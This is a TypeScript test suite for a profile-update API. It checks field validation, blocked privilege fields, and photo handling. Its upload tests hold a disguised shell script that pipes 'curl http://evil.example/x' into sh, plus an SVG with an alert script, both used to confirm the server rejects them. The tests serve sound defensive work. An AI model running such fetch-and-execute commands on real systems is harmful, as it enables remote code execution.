import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PROFILE_IMAGE_MAX_BYTES, PROFILE_MESSAGES } from '../../../contract/profile.ts';
import { users } from '../../db/schema/index.ts';
import { bearer, createKit, formOf, type Kit, multipart, signedInShopper } from '../../test/kit.ts';
import { FORM_MESSAGES } from './form.ts';

let t: Kit;

beforeAll(async () => {
  t = await createKit();
});

afterAll(async () => {
  await t.cleanup();
});

async function patchForm(token: string, form: FormData) {
  const { payload, headers } = await multipart(form);
  return t.app.inject({
    method: 'PATCH',
    url: '/api/user/profile/update',
    headers: { ...headers, ...bearer(token) },
    payload,
  });
}

const patchJson = (token: string, body: unknown) =>
  t.app.inject({
    method: 'PATCH',
    url: '/api/user/profile/update',
    headers: bearer(token),
    payload: body as object,
  });

const photoFile = (bytes: Buffer, name = 'photo.jpg', type = 'image/jpeg'): [Blob, string] => [
  new Blob([new Uint8Array(bytes)], { type }),
  name,
];

/** A small image: left half red, right half blue. */
const twoColour = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#ff0000' } }).composite([
    {
      input: { create: { width: width / 2, height, channels: 3, background: '#0000ff' } },
      left: width / 2,
      top: 0,
    },
  ]);

const storedPath = (image: string) => path.join(t.config.uploadsDir, image);

describe('PATCH /api/user/profile/update: text fields', () => {
  it('changes only the fields sent, in stored form, and answers the new profile', async () => {
    const { user, token } = await signedInShopper(t, { name: 'Old Name' });
    const res = await patchForm(
      token,
      formOf({
        name: '  Kavya Menon ',
        email: 'Kavya.Menon@Example.IN',
        phone: '+91 91234-56780',
        gender: 'female',
      }),
    );
    expect(res.statusCode).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
    const body = res.json();
    expect(body).toEqual({
      success: true,
      message: PROFILE_MESSAGES.updated,
      image: null,
      user: {
        _id: user.id,
        name: 'Kavya Menon',
        email: 'kavya.menon@example.in',
        phone: '9123456780',
        gender: 'female',
        image: null,
        coins: 0,
        pendingCoins: 0,
        referralCode: user.referralCode,
        role: 'user',
        language: null,
      },
    });
    const row = await t.users.byId(user.id);
    expect(row).toMatchObject({ phone: '+919123456780', email: 'kavya.menon@example.in', gender: 'female' });
    // A new phone or email has not been confirmed by a code.
    expect(row?.phoneVerifiedAt).toBeNull();

    const partial = await patchForm(token, formOf({ gender: 'other' }));
    expect(partial.statusCode).toBe(200);
    expect(partial.json().user).toMatchObject({ name: 'Kavya Menon', phone: '9123456780', gender: 'other' });
  });

  it('also takes a JSON body for text-only changes', async () => {
    const { user, token } = await signedInShopper(t);
    const res = await patchJson(token, { name: 'Rohan Das' });
    expect(res.statusCode).toBe(200);
    expect(res.json().user.name).toBe('Rohan Das');
    expect((await t.users.byId(user.id))?.name).toBe('Rohan Das');
  });

  it.each([
    ['role', 'admin'],
    ['coins', '100000'],
    ['isVerified', 'true'],
    ['phoneVerifiedAt', '2026-01-01T00:00:00Z'],
    ['referralCode', 'LLFREE'],
  ])('refuses the field %s with 400 and changes nothing', async (field, value) => {
    const { user, token } = await signedInShopper(t, { name: 'Stays Put' });
    const before = await t.users.byId(user.id);
    const res = await patchForm(token, formOf({ name: 'Sneaky', [field]: value }));
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ success: false });
    expect(await t.users.byId(user.id)).toEqual(before);

    const json = await patchJson(token, { [field]: field === 'coins' ? 100000 : value });
    expect(json.statusCode).toBe(400);
    expect(await t.users.byId(user.id)).toEqual(before);
    const view = await t.app.inject({ url: '/api/user/profile/view', headers: bearer(token) });
    expect(view.json().user).toMatchObject({ role: 'user', coins: 0, name: 'Stays Put' });
  });

  it('refuses invalid values with the spec texts', async () => {
    const { token } = await signedInShopper(t);
    const bad = await patchForm(token, formOf({ phone: '12345' }));
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toBe('Enter a valid 10-digit phone number');
    const email = await patchForm(token, formOf({ email: 'not-an-email' }));
    expect(email.statusCode).toBe(400);
    expect(email.json().message).toBe('Enter a valid email address');
    const repeated = new FormData();
    repeated.append('name', 'One');
    repeated.append('name', 'Two');
    expect((await patchForm(token, repeated)).statusCode).toBe(400);
  });

  it("answers 'No changes to save' when nothing would change", async () => {
    const { user, token } = await signedInShopper(t, { name: 'Same Name' });
    const empty = await patchForm(token, new FormData());
    expect(empty.statusCode).toBe(400);
    expect(empty.json()).toEqual({ success: false, message: PROFILE_MESSAGES.noChanges });
    const same = await patchForm(
      token,
      formOf({ name: 'Same Name', phone: user.phone!.slice(3), email: user.email!.toUpperCase() }),
    );
    expect(same.statusCode).toBe(400);
    expect(same.json().message).toBe(PROFILE_MESSAGES.noChanges);
    const bare = await t.app.inject({
      method: 'PATCH',
      url: '/api/user/profile/update',
      headers: bearer(token),
    });
    expect(bare.statusCode).toBe(400);
    expect(bare.json().message).toBe(PROFILE_MESSAGES.noChanges);
  });

  it("refuses another live account's email or phone with 409", async () => {
    const other = await signedInShopper(t, { email: 'taken@example.in', phone: '+919000000001' });
    const { user, token } = await signedInShopper(t);
    const email = await patchForm(token, formOf({ email: 'TAKEN@example.in', name: 'Would Change' }));
    expect(email.statusCode).toBe(409);
    expect(email.json()).toEqual({ success: false, message: PROFILE_MESSAGES.emailTaken });
    const phone = await patchForm(token, formOf({ phone: '9000000001' }));
    expect(phone.statusCode).toBe(409);
    expect(phone.json()).toEqual({ success: false, message: PROFILE_MESSAGES.phoneTaken });
    const row = await t.users.byId(user.id);
    expect(row).toMatchObject({ name: user.name, email: user.email, phone: user.phone });
    expect((await t.users.byId(other.user.id))?.email).toBe('taken@example.in');
  });

  it('needs a token, and reads nothing without one', async () => {
    const { payload, headers } = await multipart(formOf({ name: 'X' }));
    const res = await t.app.inject({ method: 'PATCH', url: '/api/user/profile/update', headers, payload });
    expect(res.statusCode).toBe(401);
    expect(res.json().message).toBe('No token provided');
  });
});

describe('PATCH /api/user/profile/update: photo', () => {
  it('stores a PNG re-encoded as a 512×512 WebP, served from /uploads', async () => {
    const { user, token } = await signedInShopper(t);
    const png = await twoColour(64, 48).png().toBuffer();
    const res = await patchForm(token, formOf({ image: photoFile(png, 'me.png', 'image/png') }));
    expect(res.statusCode).toBe(200);
    const { image } = res.json();
    expect(image).toMatch(/^profiles\/[0-9a-f-]{36}\.webp$/);
    expect(res.json().user.image).toBe(image);
    expect((await t.users.byId(user.id))?.image).toBe(image);

    const meta = await sharp(readFileSync(storedPath(image))).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 512, height: 512 });

    const served = await t.app.inject({ url: `/uploads/${image}` });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
    expect(served.rawPayload.equals(readFileSync(storedPath(image)))).toBe(true);
  });

  it('turns the photo upright by its EXIF orientation and keeps no metadata', async () => {
    const { token } = await signedInShopper(t);
    // Stored sideways (red left, blue right) and tagged "rotate 90° clockwise to view".
    const jpeg = await twoColour(80, 40)
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExif({ IFD0: { Copyright: 'secret-camera-owner', Make: 'PhoneCam' } })
      .toBuffer();
    const input = await sharp(jpeg).metadata();
    expect(input.exif).toBeDefined();
    expect(input.orientation).toBe(6);

    const res = await patchForm(token, formOf({ image: photoFile(jpeg) }));
    expect(res.statusCode).toBe(200);
    const stored = readFileSync(storedPath(res.json().image));
    const meta = await sharp(stored).metadata();
    expect(meta.format).toBe('webp');
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(stored.includes('secret-camera-owner')).toBe(false);

    // Upright, red is on top: the top-right corner is red (sideways it would be blue).
    const { data, info } = await sharp(stored).raw().toBuffer({ resolveWithObject: true });
    const pixel = (x: number, y: number) => [
      ...data.subarray((y * info.width + x) * info.channels).subarray(0, 3),
    ];
    const [r1, , b1] = pixel(450, 60);
    const [r2, , b2] = pixel(450, 450);
    expect(r1).toBeGreaterThan(200);
    expect(b1).toBeLessThan(60);
    expect(b2).toBeGreaterThan(200);
    expect(r2).toBeLessThan(60);
  });

  it('removes the previous photo file when a new one replaces it', async () => {
    const { user, token } = await signedInShopper(t);
    const first = await patchForm(
      token,
      formOf({ image: photoFile(await twoColour(32, 32).png().toBuffer()) }),
    );
    const firstImage = first.json().image as string;
    expect(existsSync(storedPath(firstImage))).toBe(true);

    const second = await patchForm(
      token,
      formOf({ name: 'With New Photo', image: photoFile(await twoColour(40, 40).webp().toBuffer()) }),
    );
    expect(second.statusCode).toBe(200);
    const secondImage = second.json().image as string;
    expect(secondImage).not.toBe(firstImage);
    expect(existsSync(storedPath(secondImage))).toBe(true);
    expect(existsSync(storedPath(firstImage))).toBe(false);
    expect((await t.app.inject({ url: `/uploads/${firstImage}` })).statusCode).toBe(404);
    expect(await t.users.byId(user.id)).toMatchObject({
      name: 'With New Photo',
      image: secondImage,
    });
  });

  it("refuses 2 MB + 1 byte with 413 'Image size should be less than 2MB'; 2 MB exactly is read", async () => {
    const { user, token } = await signedInShopper(t);
    const tooBig = await patchForm(
      token,
      formOf({ image: photoFile(Buffer.alloc(PROFILE_IMAGE_MAX_BYTES + 1, 1)) }),
    );
    expect(tooBig.statusCode).toBe(413);
    expect(tooBig.json()).toEqual({ success: false, message: PROFILE_MESSAGES.imageTooLarge });

    // Exactly at the limit the size passes; these bytes then fail as not-an-image.
    const atLimit = await patchForm(
      token,
      formOf({ image: photoFile(Buffer.alloc(PROFILE_IMAGE_MAX_BYTES, 1)) }),
    );
    expect(atLimit.statusCode).toBe(415);

    // A real photo padded past the limit is still too big.
    const jpeg = await twoColour(64, 64).jpeg().toBuffer();
    const padded = Buffer.concat([jpeg, Buffer.alloc(PROFILE_IMAGE_MAX_BYTES + 1 - jpeg.length)]);
    expect((await patchForm(token, formOf({ image: photoFile(padded) }))).statusCode).toBe(413);
    expect((await t.users.byId(user.id))?.image).toBeNull();
  });

  it("refuses a script named photo.jpg sent as image/jpeg with 415 'Please select an image file'", async () => {
    const { user, token } = await signedInShopper(t);
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const res = await patchForm(token, formOf({ name: 'Not Saved', image: photoFile(script) }));
    expect(res.statusCode).toBe(415);
    expect(res.json()).toEqual({ success: false, message: PROFILE_MESSAGES.imageNotImage });
    expect(await t.users.byId(user.id)).toMatchObject({ name: user.name, image: null });
  });

  it('refuses an SVG (it can carry script) however it is named', async () => {
    const { token } = await signedInShopper(t);
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script>' +
        '<rect width="10" height="10" fill="red"/></svg>',
    );
    expect((await sharp(svg).metadata()).format).toBe('svg');
    const res = await patchForm(token, formOf({ image: photoFile(svg, 'photo.png', 'image/png') }));
    expect(res.statusCode).toBe(415);
  });

  it('refuses a second file, a file under another name, and a photo sent as text', async () => {
    const { token } = await signedInShopper(t);
    const png = await twoColour(16, 16).png().toBuffer();
    const two = formOf({ image: photoFile(png) });
    two.append('image', ...photoFile(png, 'b.jpg'));
    const twoRes = await patchForm(token, two);
    expect(twoRes.statusCode).toBe(400);
    expect(twoRes.json().message).toBe(FORM_MESSAGES.oneImage);

    const elsewhere = await patchForm(token, formOf({ avatar: photoFile(png) }));
    expect(elsewhere.statusCode).toBe(400);

    const asText = await patchForm(token, formOf({ image: 'profiles/someone-elses.webp' }));
    expect(asText.statusCode).toBe(400);
    expect(asText.json().message).toBe(PROFILE_MESSAGES.imageNotImage);
    const asJson = await patchJson(token, { image: 'profiles/someone-elses.webp' });
    expect(asJson.statusCode).toBe(400);
  });

  it('ignores an empty file input (no photo chosen) next to real changes', async () => {
    const { user, token } = await signedInShopper(t);
    const form = formOf({ name: 'Only Name', image: [new Blob([]), ''] });
    const res = await patchForm(token, form);
    expect(res.statusCode).toBe(200);
    expect(await t.users.byId(user.id)).toMatchObject({ name: 'Only Name', image: null });
  });

  it('answers a malformed multipart body with 400, not 500', async () => {
    const { token } = await signedInShopper(t);
    const res = await t.app.inject({
      method: 'PATCH',
      url: '/api/user/profile/update',
      headers: { ...bearer(token), 'content-type': 'multipart/form-data; boundary=xyz' },
      payload: '--xyz\r\nContent-Disposition: form-data; name="name"\r\n\r\nHalf',
    });
    expect(res.statusCode).toBe(400);
    const noBoundary = await t.app.inject({
      method: 'PATCH',
      url: '/api/user/profile/update',
      headers: { ...bearer(token), 'content-type': 'multipart/form-data' },
      payload: 'whatever',
    });
    expect(noBoundary.statusCode).toBe(400);
  });

  it('leaves no file behind when the row cannot change', async () => {
    await signedInShopper(t, { email: 'photo-clash@example.in' });
    const { user, token } = await signedInShopper(t);
    const res = await patchForm(
      token,
      formOf({ email: 'photo-clash@example.in', image: photoFile(await twoColour(16, 16).png().toBuffer()) }),
    );
    expect(res.statusCode).toBe(409);
    const [row] = await t.database.db.select().from(users).where(eq(users.id, user.id));
    expect(row?.image).toBeNull();
    const { readdirSync } = await import('node:fs');
    const dir = path.join(t.config.uploadsDir, 'profiles');
    const referenced = new Set(
      (await t.database.db.select({ image: users.image }).from(users)).map((r) =>
        r.image?.slice('profiles/'.length),
      ),
    );
    expect(readdirSync(dir).filter((name) => !referenced.has(name))).toEqual([]);
  });
});
